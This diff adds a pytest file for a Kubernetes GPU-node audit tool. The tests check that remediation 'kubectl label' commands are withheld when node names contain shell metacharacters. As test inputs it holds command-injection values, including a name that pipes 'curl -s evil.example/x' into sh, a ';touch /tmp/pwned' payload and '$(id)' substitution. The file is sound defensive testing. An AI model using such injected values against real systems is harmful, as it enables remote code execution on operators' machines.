@@ -1,0 +1,88 @@
+"""A fix holds a value of the dump only as one plain word (rules.shell): trial 180's Node named
+``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node {name} ...`` run the curl when the chat block
+was pasted. Each test holds the right value, for hostile dumps and for the ordinary ones whose fixes must not change."""
+
+from __future__ import annotations
+
+import json
+import marshal
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rules.engine import audit_bytes
+from rules.loader import load_policies
+from rules.render import render
+from rules.shell import Written, plain, trusted, untrusted_characters, written
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+@pytest.fixture(scope="module")
+def pack():
+    return load_policies(())
+
+
+def _node(name: str, workload: str = "vm_passthrough") -> str:
+    return (
+        f"apiVersion: v1\nkind: Node\nmetadata:\n  name: {json.dumps(name)}\n"
+        f"  labels: {{nvidia.com/gpu.present: 'true', nvidia.com/gpu.workload.config: {workload}}}\n"
+        "status: {allocatable: {nvidia.com/gpu: '4'}, capacity: {nvidia.com/gpu: '4'}}\n"
+    )
+
+
+def _fix(pack: Any, text: str, rule: str = "workload-label-valid") -> str:
+    report = audit_bytes(text.encode(), "dump.yaml", pack)
+    [fix] = [r.remediation for o in report.objects for r in o.results if r.rule == rule and r.result == "fail"]
+    return fix
+
+
+def test_a_name_a_shell_would_run_gets_no_fix_command(pack) -> None:
+    fix = _fix(pack, _node("gpu-1 && curl -s evil.example/x | sh #"))
+    assert fix == (
+        "No fix command is written for this object: what it would name (name) holds characters a shell reads as more"
+        " than a plain word (a blank & | #), which the API server accepts in no name, namespace, label or resource name."
+        " The dump was written by hand or altered: see where it came from before you run anything it names."
+    )
+    # the same node with a name the API server accepts keeps its command
+    assert _fix(pack, _node("gpu-1")) == "kubectl label node gpu-1 --overwrite nvidia.com/gpu.workload.config=vm-passthrough"
+    # a command substitution and a control character (ESC) are said as what they are
+    assert "($ ( ) U+001B)" in _fix(pack, _node("gpu-$(id)\x1b"))
+
+
+def test_every_format_of_the_table_and_chat_writes_the_refusal_as_a_comment(pack) -> None:
+    report = audit_bytes(_node("gpu-x;touch /tmp/pwned #").encode(), "dump.yaml", pack)
+    for fmt in ("chat", "table"):
+        text = render(report, fmt, limit=0) if fmt == "chat" else render(report, fmt, width=200)
+        assert "touch /tmp/pwned # --overwrite" not in text
+        commands = [line for line in text.splitlines() if "kubectl label node" in line]
+        assert commands == [], commands
+
+
+def test_the_packs_own_text_in_a_fix_stays_as_written(pack) -> None:
+    """The operator's namespace read with $(kubectl ...) where the dump holds no ClusterPolicy is the pack's text, a
+    loop over deploy labels the pack's words around plain label names: both are written as before."""
+    lab = (ROOT / "examples" / "lab-cluster.yaml").read_bytes()
+    report = audit_bytes(lab, "lab-cluster.yaml", pack)
+    fixes = {(o.ref.name, r.rule): r.remediation for o in report.objects for r in o.results if r.remediation}
+    loop = fixes[("gpu-broken-stale-deploy", "deploy-labels-match-workload")]
+    assert loop.endswith("nvidia.com/gpu.deploy.operator-validator; do kubectl label node gpu-broken-stale-deploy $l-; done")
+    assert not any(fix.startswith("No fix command") for fix in fixes.values())
+    nodes = (ROOT / "examples" / "lab" / "nodes.yaml").read_bytes()
+    report = audit_bytes(nodes, "nodes.yaml", pack)
+    rule = "vgpu-profile-matches-config"
+    [fallback] = [r.remediation for o in report.objects for r in o.results if r.rule == rule and r.remediation]
+    namespace = "-n $(kubectl get clusterpolicies.nvidia.com -o jsonpath='{.items[0].status.namespace}' 2>/dev/null | grep ."
+    assert namespace in fallback
+
+
+def test_trust_of_values() -> None:
+    assert trusted("nvidia.com/NVIDIA_A10-12Q") and trusted("nvcr.io/nvidia/gpu-operator@sha256:ab12") and trusted(8)
+    assert trusted(["a", "b"]) and trusted({"k": "v"}) and trusted(None)
+    assert not trusted("a b") and not trusted(["a", "b;c"]) and not trusted({"k": "$(id)"}) and not trusted("x\n")
+    assert trusted(written("kubectl get x | grep y")) and type(written("plain-word")) is str
+    assert untrusted_characters(["a b", Written("c d"), {"k": "x|y"}]) == [" ", "|"]
+    # marshal (the memo of checks by their inputs) writes no str subclass: plain() gives the same key as plain text
+    key = marshal.loads(marshal.dumps(plain([Written("a b"), {"k": Written("c d")}])))
+    assert key == ["a b", {"k": "c d"}] and type(key[0]) is str and type(key[1]["k"]) is str
